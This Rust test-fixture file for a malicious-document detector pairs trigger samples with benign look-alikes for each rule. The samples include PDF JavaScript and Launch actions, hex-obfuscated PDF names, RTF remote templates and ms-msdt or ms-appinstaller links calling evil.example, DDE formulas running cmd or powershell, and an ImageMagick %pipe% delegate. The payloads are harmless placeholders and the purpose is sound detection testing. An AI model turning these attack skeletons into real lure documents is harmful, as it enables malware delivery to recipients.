//! Samples of the rules for PDFs and for documents that attack their program. Outlines only: no
//! exploit is in any of them.

use super::{RuleSamples, files};
use crate::fixtures::{FixtureError, jpeg, texts};

pub(super) fn rules() -> Result<Vec<RuleSamples>, FixtureError> {
    let mut all = pdf_rules();
    all.extend(office_rules());
    all.extend(other_rules()?);
    Ok(all)
}

fn pdf_rules() -> Vec<RuleSamples> {
    let pdf = |object: &str| {
        let head = "%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n";
        format!("{head}{object}\n%%EOF\n").into_bytes()
    };
    // A plain page, one that jumps to its own second page, and a letter that speaks of the thing.
    let honest = |word: &str| {
        let jump = pdf("1 0 obj<</OpenAction<</S/GoTo/D[3 0 R/Fit]>>>>endobj");
        vec![
            texts::PDF.into(),
            jump,
            format!("my doctor sent a PDF with {word} in it").into_bytes(),
        ]
    };
    // Bytes of a packed stream, which come together so in one of many documents.
    let chance =
        pdf("4 0 obj<</Length 31>>stream\nQ/#4aq\x01/#4Cz\x02/#4fx\x03/#45?\x04\nendstream endobj");
    vec![
        (
            "pdf_javascript",
            vec![
                pdf("4 0 obj<</S/JavaScript/JS(app.alert\\(1\\))>>endobj"),
                pdf("4 0 obj<</Names<</JavaScript 5 0 R>>>>endobj"),
            ],
            honest("/JavaScript /JS (x)"),
        ),
        (
            "pdf_open_action",
            vec![
                pdf("1 0 obj<</OpenAction<</S/URI/URI(https://evil.example)>>>>endobj"),
                pdf("1 0 obj<</OpenAction<</Type/Action/S /GoToR/F(a)>>>>endobj"),
                pdf("3 0 obj<</AA<</O 4 0 R>>>>endobj 4 0 obj<</S /SubmitForm>>endobj"),
            ],
            [
                honest("/OpenAction << /S /URI"),
                vec![pdf(
                    "1 0 obj<</OpenAction 3 0 R>>endobj 4 0 obj<</S/URI/URI(https://a.example)>>endobj",
                )],
            ]
            .concat(),
        ),
        (
            "pdf_launch",
            vec![
                pdf("4 0 obj<</Type/Action/S/Launch/F(harmless.exe)>>endobj"),
                pdf("4 0 obj<</S/Launch/Win<</F(cmd.exe)/P(/c echo)>>>>endobj"),
                pdf("4 0 obj<</S/Launch/F(../manual.html)>>endobj"),
                pdf("4 0 obj<</S/Launch/F(a.html)/Win<</F(b.exe)>>>>endobj"),
                pdf("4 0 obj<</F(a.html)/S/Launch/F(b.exe)>>endobj"),
                pdf("4 0 obj<</F(b.exe)/S/Launch/F(a.html)>>endobj"),
                pdf("4 0 obj<</Win<</F(b.exe)>>/S/Launch/F(a.html)>>endobj"),
                pdf("4 0 obj<</S/Launch/F(a.html)>>endobj 5 0 obj<</S/Launch/F(b.exe)>>endobj"),
            ],
            [
                honest("/S /Launch "),
                vec![
                    pdf("4 0 obj<</Type/Action/S/Launch/F(docs/manual.html)/NewWindow true>>endobj"),
                    pdf("4 0 obj<< /F (./man.conf.5.html) /S /Launch >>endobj"),
                ],
            ]
            .concat(),
        ),
        (
            "pdf_embedded_file",
            vec![
                pdf("4 0 obj<</Type/EmbeddedFile/Length 0>>stream\nendstream endobj"),
                pdf("1 0 obj<</Names<</EmbeddedFiles 5 0 R>>>>endobj"),
            ],
            honest("/EmbeddedFiles 1 0 R"),
        ),
        (
            "pdf_rich_media",
            vec![
                pdf("4 0 obj<</Type/Annot/Subtype/RichMedia>>endobj"),
                pdf("4 0 obj<</Subtype /3D >>endobj"),
            ],
            honest("/Subtype/RichMedia "),
        ),
        ("pdf_xfa", vec![pdf("4 0 obj<</XFA[(x)5 0 R]>>endobj")], honest("/XFA [")),
        (
            "pdf_hidden_names",
            vec![
                pdf("4 0 obj<</S/J#61vaScript>>endobj"),
                pdf("4 0 obj<</S/#4caunch>>endobj"),
                pdf("4 0 obj<</S/#4A#61#76aScript>>endobj"),
                pdf("4 0 obj<</#4fpenAction 5 0 R>>endobj"),
                pdf("4 0 obj<</Type/#45mbeddedFile>>endobj"),
                pdf("4 0 obj<</#4a#53(x)>>endobj"),
            ],
            [honest("/#4aavaScript"), vec![chance]].concat(),
        ),
    ]
}

fn office_rules() -> Vec<RuleSamples> {
    let compound = |body: &[u8]| [COMPOUND_FILE, body].concat();
    let wide = |text: &str| text.encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<u8>>();
    let plain_rtf = r"{\rtf1\ansi Dear doctor, the rash is back. Equation.3 was on the exam.}";
    vec![
        (
            "equation_editor",
            vec![
                compound(&wide("Equation.3")),
                compound(b"\x02\xce\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46"),
                format!(
                    "{{\\rtf1{{\\object\\objemb{{\\objdata 0105{}}}}}}}",
                    "4571756174696f6e2e33"
                )
                .into_bytes(),
            ],
            vec![compound(b"Word.Document.8"), plain_rtf.into()],
        ),
        (
            "rtf_linked_object",
            vec![
                format!(r"{{\rtf1{{\object\objautlink\objupdate{{\objdata {URL_MONIKER}}}}}}}")
                    .into(),
                br"{\rtf1{\object\objautlink\objupdate}}".to_vec(),
                b"\r\n\r\n{\\rtf1{\\object\\objautlink\\objupdate}}".to_vec(),
            ],
            files(&[plain_rtf, r"{\rtf1{\object\objemb\objupdate}}"]),
        ),
        (
            "rtf_package",
            vec![
                br"{\rtf1{\object\objemb{\objdata 01050000020000000800000050 5061636b61676500}}}"
                    .to_vec(),
            ],
            files(&[plain_rtf, r"{\rtf1{\object\objemb{\objdata 0105}}}"]),
        ),
        (
            "rtf_with_object",
            files(&[
                "先生、お願いします。\n{\\rtf1\\ansi{\\object\\objautlink{\\*\\objdata 0105}}}\n",
                r"{\rt\ansi{\object\objautlink{\*\objdata 0105}}}",
                r"{\rtf1{\object\objemb{\objdata 0105}}}",
                r"{\rtf1{\*\template https://evil.example/a}}",
            ]),
            files(&[
                plain_rtf,
                r"{\rtf1 What is {\object{\objdata?}",
                r"My paper says {\object\objdata 0105} and no RTF",
            ]),
        ),
        (
            "macro_document_old",
            vec![compound(&[wide("_VBA_PROJECT"), wide("VBA\0")].concat())],
            vec![compound(&wide("WordDocument")), wide("_VBA_PROJECT VBA\0")],
        ),
    ]
}

fn other_rules() -> Result<Vec<RuleSamples>, FixtureError> {
    let volume = |at: usize| {
        let mut image = vec![0; at];
        image.extend(b"\x01CD001\x01\0");
        image
    };
    Ok(vec![
        (
            "diagnostic_tool_link",
            files(&[
                "<a href='ms-msdt:/id PCWDiagnostic /skip force'>",
                "ms-appinstaller:?source=https://evil.example/a",
                "search-ms:query=a&crumb=location:\\\\evil.example",
            ]),
            files(&["PCWDiagnostic asked me to restart.", "search-ms: what is that?"]),
        ),
        (
            "data_exchange",
            files(&[
                "=cmd|' /C calc'!A0",
                "+powershell|'-c 1'!A0",
                "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"",
            ]),
            files(&[
                "=SUM(A1:A3)",
                "cmd と書かれた画面が出ました",
                "-3 度",
                "DDEAUTO とは何ですか",
            ]),
        ),
        (
            "image_delegate",
            files(&[
                "push graphic-context\nviewbox 0 0 640 480\nfill 'url(https://evil.example/x)'\npop graphic-context\n",
                "%!PS\n(%pipe%id) (r) file\n",
            ]),
            vec![
                b"push graphic-context\nfill red\npop graphic-context\n".to_vec(),
                b"%!PS\n(hello) show\n".to_vec(),
                jpeg::plain()?,
            ],
        ),
        (
            "onenote_attachment",
            vec![[ONENOTE, &[0; 64], ATTACHMENT].concat()],
            vec![[ONENOTE, &[0; 64]].concat(), ATTACHMENT.to_vec()],
        ),
        (
            "compiled_help",
            vec![b"ITSF\x03\0\0\0\x60\0\0\0".to_vec()],
            files(&["ITSF の案内です。"]),
        ),
        (
            "disk_image",
            vec![volume(32768), b"conectix\0\0\0\x02".to_vec(), b"vhdxfile".to_vec()],
            vec![volume(32769), b"my conectix".to_vec(), b"CD001".to_vec()],
        ),
    ])
}

const COMPOUND_FILE: &[u8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1";
const URL_MONIKER: &str = "e0c9ea79f9bace118c8200aa004ba90b";
const ONENOTE: &[u8] = b"\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d\xae\xb1\x53\x78\xd0\x29\x96\xd3";
const ATTACHMENT: &[u8] = b"\xe7\x16\xe3\xbd\x65\x26\x11\x45\xa4\xc4\x8d\x4d\x0b\x7a\x9e\xac";
